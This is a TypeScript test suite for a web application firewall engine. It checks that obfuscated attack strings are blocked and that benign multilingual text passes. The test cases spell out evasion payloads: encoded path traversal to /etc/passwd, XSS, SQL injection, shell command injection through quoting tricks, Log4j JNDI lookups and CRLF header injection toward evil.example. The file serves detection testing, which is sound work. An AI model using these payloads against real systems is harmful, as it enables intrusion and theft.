import t from 'tap'
import type { Test } from 'tap'
import { RuleSet } from './engine.ts'
import { BROWSER, explain, families, inBody, request, ruleSet } from './test-helpers.ts'

/**
 * The same attacks, disguised. Each case is sent as the raw query string a
 * client could put on the wire (no further encoding by the test), so the
 * disguise is exactly what the engine receives.
 */

const pl1 = ruleSet()

function blocked (t: Test, rules: RuleSet, rawQuery: string, family: string): void {
  const r = request(rules, { query: rawQuery })
  t.ok(r.score >= 5 && families(r).includes(family), `${rawQuery} → ${explain(r)}`)
}

t.test('double and triple percent-encoding', async (t) => {
  blocked(t, pl1, 'q=%253Cscript%253Ealert(1)%253C%252Fscript%253E', 'xss')
  blocked(t, pl1, 'file=%252e%252e%252f%252e%252e%252fetc%252fpasswd', 'lfi')
  blocked(t, pl1, 'id=1%2527%2520or%25201%253D1--', 'sqli')
  blocked(t, pl1, 'q=%25253Cscript%25253E', 'xss')
  const r = request(pl1, { query: 'next=%252Fhome' })
  t.ok(r.score < 5, 'a double-encoded slash alone is only a warning')
})

t.test('overlong UTF-8 and %u encodings', async (t) => {
  blocked(t, pl1, 'f=..%c0%af..%c0%afetc%c0%afpasswd', 'lfi')
  blocked(t, pl1, 'q=%u003Cscript%u003Ealert(1)', 'xss')
  blocked(t, pl1, 'f=..%e0%80%af..%e0%80%afboot.ini', 'lfi')
  const r = request(pl1, { query: 'f=%c0%ae' })
  t.ok(r.matches.some((m) => m.id === 1002), 'an overlong form alone is a critical protocol anomaly')
})

t.test('HTML entities, named, decimal and hex, with and without semicolons', async (t) => {
  blocked(t, pl1, `q=${encodeURIComponent('&lt;script&gt;alert(1)&lt;/script&gt;')}`, 'xss')
  blocked(t, pl1, `q=${encodeURIComponent('<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">')}`, 'xss')
  blocked(t, pl1, `q=${encodeURIComponent('<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">')}`, 'xss')
  blocked(t, pl1, `q=${encodeURIComponent('<a href="java&Tab;script&colon;alert(1)">')}`, 'xss')
  blocked(t, pl1, `q=${encodeURIComponent('<a href="jav&#x0A;ascript:alert(1)">')}`, 'xss')
  blocked(t, pl1, `q=${encodeURIComponent('&#0000039; or 1=1--')}`, 'sqli')
})

t.test('SQL comments, whitespace and case', async (t) => {
  blocked(t, pl1, `id=${encodeURIComponent('1/**/UnIoN/**/SeLeCt/**/1,2')}`, 'sqli')
  blocked(t, pl1, `id=${encodeURIComponent('1 UN/**/ION SEL/**/ECT 1,2')}`, 'sqli')
  blocked(t, pl1, `id=${encodeURIComponent('1 /*!50000UnIoN*/ /*!50000SeLeCt*/ 1,2')}`, 'sqli')
  blocked(t, pl1, `id=${encodeURIComponent('1\tunion\nselect\u000b1,2')}`, 'sqli')
  blocked(t, pl1, `id=${encodeURIComponent("1'/**/or/**/'1'='1")}`, 'sqli')
  blocked(t, pl1, `id=${encodeURIComponent('1 union -- x\nselect 1,2')}`, 'sqli')
  blocked(t, pl1, `id=${encodeURIComponent('1 union #x\nselect 1,2')}`, 'sqli')
  blocked(t, pl1, 'id=1+UNION+SELECT+1,2', 'sqli')
  blocked(t, pl1, `id=${encodeURIComponent("1' Or 1=1#")}`, 'sqli')
})

t.test('Unicode: fullwidth and compatibility characters', async (t) => {
  blocked(t, pl1, `q=${encodeURIComponent('\uff1cscript\uff1ealert(1)\uff1c/script\uff1e')}`, 'xss')
  blocked(t, pl1, `f=${encodeURIComponent('\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd')}`, 'lfi')
  blocked(t, pl1, `id=${encodeURIComponent('1\u2019 or 1=1--')}`.replace('%E2%80%99', '%27'), 'sqli')
  blocked(t, pl1, `q=${encodeURIComponent('{{７*７}}')}`, 'code')
})

t.test('NUL bytes', async (t) => {
  const r = request(pl1, { query: 'f=shell.php%00.jpg' })
  t.ok(r.matches.some((m) => m.id === 1001), explain(r))
  blocked(t, pl1, 'q=%3Cscr%00ipt%3Ealert(1)', 'xss')
  blocked(t, pl1, 'id=1%27%20or%00%201=1--', 'sqli')
})

t.test('JavaScript escapes', async (t) => {
  blocked(t, pl1, `q=${encodeURIComponent('\\u003cscript\\u003ealert(1)')}`, 'xss')
  blocked(t, pl1, `q=${encodeURIComponent('\\x3cimg src=x onerror=alert(1)\\x3e')}`, 'xss')
  blocked(t, pl1, `q=${encodeURIComponent('";\\u0061lert(document.cookie)//')}`, 'xss')
})

t.test('shell quoting, escapes and variables', async (t) => {
  blocked(t, pl1, `h=${encodeURIComponent("x;c'a't /e't'c/pa's's'wd")}`, 'rce')
  blocked(t, pl1, `h=${encodeURIComponent('x;c\\at /etc/pa\\sswd')}`, 'rce')
  blocked(t, pl1, `h=${encodeURIComponent('x;w$@hoami')}`, 'rce')
  blocked(t, pl1, `h=${encodeURIComponent('x|who""ami')}`, 'rce')
  blocked(t, pl1, `h=${encodeURIComponent('x;cat$IFS$9/etc/passwd')}`, 'rce')
  blocked(t, pl1, 'h=127.0.0.1%0aid%0a', 'rce')
  blocked(t, pl1, `h=${encodeURIComponent('x&&w^h^o^a^m^i')}`, 'rce')
})

t.test('Log4j lookup obfuscation', async (t) => {
  for (const p of ['${${lower:j}${lower:n}${lower:d}${lower:i}:ldap://x/a}', '${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}', '${jNdI:LdAp://x/a}']) {
    const r = request(pl1, { headers: [...BROWSER, ['x-forwarded-for', p]] })
    t.ok(r.score >= 5 && families(r).includes('code'), `${p} → ${explain(r)}`)
  }
})

t.test('form bodies: + as space, encoded names', async (t) => {
  const r = inBody(pl1, 'application/x-www-form-urlencoded', 'user=admin%27+or+%271%27%3D%271')
  t.ok(r.score >= 5 && families(r).includes('sqli'), explain(r))
  const json = inBody(pl1, 'application/json', '{"q": "\\u003cscript\\u003ealert(1)"}')
  t.ok(json.score >= 5, `JSON escapes are decoded by the parser: ${explain(json)}`)
})

t.test('form-encoded values in JSON and multipart are read both ways: + as a plus and as a space', async (t) => {
  const json = inBody(pl1, 'application/json', JSON.stringify({ comment: '%3Csvg+onload%3Dalert(1)%3E', q: '1%27+or+1%3D1--' }))
  t.ok(json.score >= 5 && families(json).includes('xss') && families(json).includes('sqli'), `JSON: ${explain(json)}`)
  const form = `--b\r\nContent-Disposition: form-data; name="host"\r\n\r\n127.0.0.1+%26%26+ls+%2Fetc\r\n--b--\r\n`
  const multipart = inBody(pl1, 'multipart/form-data; boundary=b', form)
  t.ok(multipart.score >= 5 && families(multipart).includes('rce'), `multipart: ${explain(multipart)}`)
  // Both readings: with + as a space the string break-out is lost, as a plus it is the attack.
  const both = inBody(pl1, 'application/json', JSON.stringify({ name: '\'+alert(1)+\'%41' }))
  t.ok(both.score >= 5 && families(both).includes('xss'), `an escape next to it hides nothing: ${explain(both)}`)
  const sqli = inBody(pl1, 'application/json', JSON.stringify({ id: '1\'+(select+1)+\'%20' }))
  t.ok(sqli.score >= 5, `nor here: ${explain(sqli)}`)
  const plain = inBody(pl1, 'application/json', JSON.stringify({ note: 'C++ and a+b, 1+1=2' }))
  t.equal(plain.score, 0, `a plus in text that carries no escapes is a plus: ${explain(plain)}`)
})

t.test('base64 of text is read as that text; tokens, hashes and words are not', async (t) => {
  const b64 = (s: string, enc: BufferEncoding = 'base64'): string => Buffer.from(s).toString(enc)
  blocked(t, pl1, `data=${encodeURIComponent(b64('<svg onload=alert(document.domain)>'))}`, 'xss')
  blocked(t, pl1, `f=${b64('../../../../etc/shadow', 'base64url')}`, 'lfi')
  blocked(t, pl1, `q=${encodeURIComponent(b64('1\' union select password from users--').replace(/=+$/, ''))}`, 'sqli')
  for (const benign of [
    b64('{"cart":[1,2,3],"currency":"EUR"}'), b64('Hello, world! How are you today?'),
    'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.c2lnbmF0dXJl', '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
    'internationalization', Buffer.from(Array.from({ length: 48 }, (_, i) => (i * 37) % 256)).toString('base64'),
  ]) {
    const r = request(pl1, { query: `v=${encodeURIComponent(benign)}` })
    t.equal(r.score, 0, `${benign} → ${explain(r)}`)
  }
})

t.test('a CR LF a latin1 conversion makes of wide characters (嘍嘊), then a header, a request or a status line', async (t) => {
  const wide = (text: string): string => [...text].map((c) => String.fromCharCode(0x5600 | c.charCodeAt(0))).join('')
  for (const [where, req] of [
    ['path', { path: '/%E5%98%8D%E5%98%8ASet-Cookie:%20admin=1' }],
    ['query', { query: `next=${encodeURIComponent('/x\u010d\u010aLocation: https://evil.example')}` }],
    ['query, request splitting (CVE-2018-12116)', { query: `u=${encodeURIComponent('/x\u0120HTTP/1.1\u010d\u010aHost: a\u010d\u010a\u010d\u010aGET\u0120/admin\u0120HTTP/1.1')}` }],
    ['query, a real CR and a wide LF', { query: `q=${encodeURIComponent('a\r\u560aContent-Type: text/html')}` }],
    ['query, after a real line break', { query: `q=${encodeURIComponent('a\n x\u560d\u560aLocation: https://evil.example')}` }],
    ['query, the header spelt wide too', { query: `q=${encodeURIComponent('\u560d\u560a' + wide('Set-Cookie: a=1'))}` }],
    ['query, a status line', { query: `q=${encodeURIComponent('\u560d\u560aHTTP/1.1 200 OK')}` }],
  ] as const) {
    const r = request(pl1, req)
    t.ok(r.score >= 5 && r.matches.some((m) => m.id === 1005), `${where}: ${JSON.stringify(req)} → ${explain(r)}`)
  }
  for (const text of [
    '在响应头上Content-Type:application/json', '为什么不Set-Cookie: 生效', '「上传」Content-Type: multipart', '《Location: Unknown》电影',
    '勤務地－Location: 東京', '好嘍 location: 香港', '搞掂嘍note: ok', 'Počet: 3', 'ČSet-Cookie', 'Kč content-type: x',
    '嘍Set-cookie:crlf=injection', '跟不上 Host: 的变化', 'ชญ Location: กรุงเทพ', '👩\u200d💻 Host: me', '上不上HTTP/2 的问题',
    '赶不上10:30的高铁怎么办', '看不上https://example.com 的设计', '跟不上Vue3:新特性', '「推薦」《Python:入門》',
  ]) {
    for (const req of [{ query: `q=${encodeURIComponent(text)}` }, { path: `/${encodeURIComponent(text)}` }]) {
      const r = request(pl1, req)
      t.equal(r.score, 0, `${JSON.stringify(req)} → ${explain(r)}`)
    }
    const form = inBody(pl1, 'application/x-www-form-urlencoded', `comment=${encodeURIComponent(text)}`)
    t.equal(form.score, 0, `form: ${text} → ${explain(form)}`)
    const json = inBody(pl1, 'application/json', JSON.stringify({ comment: text }))
    t.equal(json.score, 0, `json: ${text} → ${explain(json)}`)
  }
})

t.test('in a body, a real line break after a character whose low byte is CR is text (Czech "host" is a guest)', async (t) => {
  for (const text of ['Moderuje: Petr Kovač\nHost: MUDr. Jana Nováková', '请大家帮忙回复\nGET /api/v1/users HTTP/1.1', '他說：對\nLocation: 台北']) {
    const form = inBody(pl1, 'application/x-www-form-urlencoded', `comment=${encodeURIComponent(text)}`)
    t.equal(form.score, 0, `form: ${text} → ${explain(form)}`)
    const json = inBody(pl1, 'application/json', JSON.stringify({ comment: text }))
    t.equal(json.score, 0, `json: ${text} → ${explain(json)}`)
  }
})
